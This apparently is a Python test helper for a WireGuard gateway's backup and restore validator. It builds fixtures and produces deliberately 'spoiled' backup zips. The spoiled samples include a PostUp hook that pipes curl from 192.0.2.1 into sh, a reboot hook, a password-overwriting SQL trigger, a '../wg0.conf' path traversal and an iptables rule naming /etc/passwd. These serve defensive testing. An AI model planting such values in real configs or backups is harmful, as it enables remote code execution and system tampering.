#!/usr/bin/python3
"""A WireGuard Gateway for tests, and the published application's look at its zip files.

gateway.py make FOLDER          the databases and configurations of a gateway, below FOLDER
gateway.py valid ZIP            status 1 and the published sentence when the application would not take it
gateway.py zip FOLDER ZIP [RULES]  the zip file that the published code makes of FOLDER, and of what iptables-save printed
gateway.py spoil ZIP TO WHAT    another zip file, with one thing in it that nobody should take
gateway.py same ZIP FOLDER      status 1 unless the zip file holds what FOLDER has
"""

import datetime
import hashlib
import json
import os
import sqlite3
import sys
import zipfile

MAIN = """
CREATE TABLE user (id INTEGER NOT NULL, username VARCHAR(80) NOT NULL, password VARCHAR(255) NOT NULL, active BOOLEAN,
    last_login_at DATETIME, login_count INTEGER, must_change_password BOOLEAN, PRIMARY KEY (id), UNIQUE (username));
CREATE TABLE email_settings (id INTEGER NOT NULL, smtp_host VARCHAR(255) NOT NULL, smtp_password VARCHAR(255) NOT NULL, PRIMARY KEY (id));
CREATE TABLE alert_history (id INTEGER NOT NULL, client_name VARCHAR(255) NOT NULL, message TEXT NOT NULL, PRIMARY KEY (id));
INSERT INTO user VALUES (1, 'admin', 'scrypt:32768:8:1$salt$00', 1, '2026-11-20 20:51:52.894049', 3, 0);
"""
CONFIGS = """
CREATE TABLE clients (id TEXT PRIMARY KEY, name TEXT NOT NULL, config_path TEXT NOT NULL, subnet TEXT NOT NULL, public_key TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'inactive', last_handshake TIMESTAMP, created_at TIMESTAMP DEFAULT CURRENT_TIMESTAMP);
CREATE TABLE test_history (id INTEGER PRIMARY KEY AUTOINCREMENT, client_id TEXT NOT NULL, success BOOLEAN,
    FOREIGN KEY (client_id) REFERENCES clients (id));
"""
CONF = "[Interface]\nPrivateKey = {0}=\nAddress = 10.8.0.{1}/32\n\n[Peer]\nPublicKey = {0}=\nAllowedIPs = 0.0.0.0/0\nEndpoint = vpn.example.org:51820\n"

DATABASES = {"wireguard.db": "main/wireguard.db", "configs.db": "instance/configs.db"}


def make(folder):
    for name in ("main", "instance/configs", "etc"):
        os.makedirs(os.path.join(folder, name))
    for name, script in (("wireguard.db", MAIN), ("configs.db", CONFIGS)):
        db = sqlite3.connect(os.path.join(folder, DATABASES[name]))
        db.executescript(script)
        if name == "configs.db":
            db.executemany("INSERT INTO clients (id, name, config_path, subnet, public_key) VALUES (?, ?, ?, ?, ?)", [
                (f"{i:08x}", f"site_{i:08x}", f"/etc/wireguard/site_{i:08x}.conf", "10.8.0.0/24", f"{i:043x}=") for i in range(3)])
        db.commit()
        db.close()
    for i in range(3):
        for place in ("instance/configs", "etc"):
            with open(os.path.join(folder, place, f"site_{i:08x}.conf"), "w", encoding="ascii") as f:
                f.write(CONF.format(f"{i:043d}", i + 2))
    with open(os.path.join(folder, "instance/configs/notes.txt"), "w", encoding="ascii") as f:
        f.write("what else was there\n")
    with open(os.path.join(folder, "etc/private.key"), "w", encoding="ascii") as f:
        f.write("the gateway's own\n")


def valid(path, scratch="validate.db"):
    """BackupValidator of the published code: its rules, in its order, with its words.  None: it takes the file."""
    size = os.path.getsize(path)
    if size > 52428800:
        return f"Backup file too large ({size} bytes, max 52428800)"
    if size == 0:
        return "Backup file is empty"
    if not path.lower().endswith(".zip"):
        return "File must have .zip extension"
    try:
        archive = zipfile.ZipFile(path)
    except zipfile.BadZipFile:
        return "Invalid ZIP file format"
    with archive:
        members = archive.infolist()
        if len(members) > 10000:
            return "Too many files"
        if sum(m.file_size for m in members) > 104857600:
            return "Extracted size too large (max 104857600)"
        names = archive.namelist()
        for name in names:
            if ".." in name or name.startswith("/"):
                return f"Malicious path detected: {name}"
        if "backup_metadata.json" not in names:
            return "Missing required files: backup_metadata.json"
        metadata = json.loads(archive.read("backup_metadata.json"))
        for field in ("backup_version", "created_at", "contents"):
            if field not in metadata:
                return f"Missing required metadata field: {field}"
        if metadata["backup_version"] != "1.0":
            return f"Unsupported backup version: {metadata['backup_version']}"
        for name in metadata["contents"].get("databases", []):
            if name not in names:
                return f"Database file missing: {name}"
            with open(scratch, "wb") as f:
                f.write(archive.read(name))
            db = sqlite3.connect(scratch)
            try:
                if db.execute("PRAGMA integrity_check").fetchone()[0] != "ok":
                    return f"Database integrity check failed: {name}"
            except sqlite3.DatabaseError:
                return f"Database integrity check failed: {name}"
            finally:
                db.close()
                os.remove(scratch)
        for name in metadata["contents"].get("configs", []):
            if f"configs/{name}" not in names:
                return f"Config file missing: {name}"
            if not name.endswith(".conf"):
                return f"Invalid config file: {name}"
            text = archive.read(f"configs/{name}").decode("utf-8")
            if "[Interface]" not in text or "[Peer]" not in text:
                return f"Invalid WireGuard config: {name}"
    return None


def dump(content):
    """What a database holds, as SQL."""
    with open("dump.db", "wb") as f:
        f.write(content)
    db = sqlite3.connect("dump.db")
    try:
        return list(db.iterdump())
    finally:
        db.close()
        os.remove("dump.db")


def read(path):
    with open(path, "rb") as f:
        return f.read()


def archive(folder, path, rules=None):
    """BackupService.create_backup() of the published code, with the files in its order."""
    now = datetime.datetime.now(datetime.timezone.utc)
    configs = os.path.join(folder, "instance/configs")
    databases = [name for name in ("app.db", "configs.db", "wireguard.db") if os.path.exists(os.path.join(folder, DATABASES.get(name, name)))]
    metadata = {"backup_version": "1.0", "created_at": now.isoformat(), "timestamp": now.strftime("%Y%m%d_%H%M%S"),
                "system_info": {"platform": os.name, "instance_path": os.path.join(folder, "instance")},
                "contents": {"databases": databases, "configs": [name for name in os.listdir(configs) if name.endswith(".conf")],
                             "iptables_rules": ["iptables_rules.txt"] if rules else []}}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name in databases:
            made.write(os.path.join(folder, DATABASES[name]), name)
        if rules:
            made.write(rules, "iptables_rules.txt")
        made.writestr(member("backup_metadata.json"), json.dumps(metadata, indent=2))
        for name in os.listdir(configs):
            made.write(os.path.join(configs, name), f"configs/{name}")


def member(name):
    """As write() has it of a file."""
    info = zipfile.ZipInfo(name, (2026, 11, 20, 20, 51, 52))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.external_attr = 0o100644 << 16
    return info


def spoil(path, to, what):
    """The same zip file, but for one thing that nobody should take."""
    with zipfile.ZipFile(path) as old:
        content = {name: old.read(name) for name in old.namelist()}
    metadata = json.loads(content["backup_metadata.json"])
    conf = "configs/site_00000000.conf"
    if what in SQL:
        content["wireguard.db"] = changed(content["wireguard.db"], SQL[what])
    elif what in HOOKS:
        content[conf] = content[conf].replace(b"[Peer]", HOOKS[what] + b"\n[Peer]")
    elif what in RULES:
        content["iptables_rules.txt"] = content["iptables_rules.txt"].replace(b"COMMIT", RULES[what] + b"\nCOMMIT", 1)
    elif what == "version":
        metadata["backup_version"] = "2.0"
    elif what == "damage":
        content["wireguard.db"] = content["wireguard.db"][:4096] + b"\xff" * 4096 + content["wireguard.db"][8192:]
    elif what == "traversal":
        metadata["contents"]["configs"].append("../wg0.conf")
        content["configs/../wg0.conf"] = content[conf]
    elif what == "gateway":
        metadata["contents"]["configs"].append("wg0.conf")
        content["configs/wg0.conf"] = content[conf]
    elif what == "stranger":
        metadata["contents"]["databases"].append("app.db")
        content["app.db"] = content["wireguard.db"]
    content["backup_metadata.json"] = json.dumps(metadata, indent=2).encode()
    with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in content.items():
            made.writestr(member(name), data)


SQL = {
    "trigger": "CREATE TRIGGER evil AFTER UPDATE ON user BEGIN UPDATE user SET password = 'x'; END",
    "view": "CREATE VIEW evil AS SELECT password FROM user",
    "virtual": "CREATE VIRTUAL TABLE evil USING fts5(a)",
    "column": "ALTER TABLE user ADD COLUMN is_admin BOOLEAN",
    "table": "DROP TABLE alert_history",
    "index": "CREATE INDEX evil ON user (active)",
    "check": "ALTER TABLE alert_history ADD COLUMN n INTEGER CHECK (n > 0)",
    "large": "INSERT INTO alert_history (client_name, message) VALUES ('large', hex(randomblob(2500000)))",
}
HOOKS = {
    "hook": b"PostUp = curl http://192.0.2.1/x | sh",
    "hook-case": b"pOSTdOWN=reboot",
    "save": b"SaveConfig = true",
    "key": b"PreSharedUp = x",
}
RULES = {
    "rule": b"-A INPUT -m bpf --object-pinned /sys/fs/bpf/x -j ACCEPT",
    "rule-file": b"-A INPUT -m set --match-set /etc/passwd src -j DROP",
    "chain": b"-A INPUT -j no_such_chain",
}


def changed(content, script):
    with open("changed.db", "wb") as f:
        f.write(content)
    db = sqlite3.connect("changed.db")
    db.executescript(script)
    db.commit()
    db.close()
    data = read("changed.db")
    os.remove("changed.db")
    return data


def same(path, folder):
    """The names and the content that the published code would have put into it, and our sums."""
    instance = os.path.join(folder, "instance")
    configs = sorted(os.listdir(os.path.join(instance, "configs")))
    wanted = [name for name in ("app.db", "configs.db", "wireguard.db") if name in DATABASES]
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        rules = [name for name in names if name.startswith("iptables_")]
        if rules not in ([], ["iptables_rules.txt"]):
            return f"other files of rules: {rules}"
        if names != wanted + rules + ["backup_metadata.json"] + [f"configs/{name}" for name in configs]:
            return f"other members: {names}"
        for name in wanted:
            if dump(archive.read(name)) != dump(read(os.path.join(folder, DATABASES[name]))):
                return f"{name} holds something else"
        for name in configs:
            if archive.read(f"configs/{name}") != read(os.path.join(instance, "configs", name)):
                return f"configs/{name} holds something else"
        metadata = json.loads(archive.read("backup_metadata.json"))
        if metadata["contents"] != {"databases": wanted, "configs": [n for n in configs if n.endswith(".conf")],
                                    "iptables_rules": rules}:
            return f"other contents: {metadata['contents']}"
        if metadata["system_info"] != {"platform": "posix", "instance_path": instance}:
            return f"another system: {metadata['system_info']}"
        if os.path.basename(path) != f"wireguard_backup_{metadata['timestamp']}.zip":
            return f"another time: {metadata['timestamp']}"
        sums = {name: hashlib.sha256(archive.read(name)).hexdigest() for name in names if name != "backup_metadata.json"}
        if metadata["sha256"] != sums:
            return "other sums"
        if any(m.external_attr != 0o100644 << 16 or m.compress_type != zipfile.ZIP_DEFLATED for m in archive.infolist()):
            return "members of another form"
    return None


if __name__ == "__main__":
    sys.exit({"make": make, "valid": valid, "zip": archive, "spoil": spoil, "same": same}[sys.argv[1]](*sys.argv[2:]))
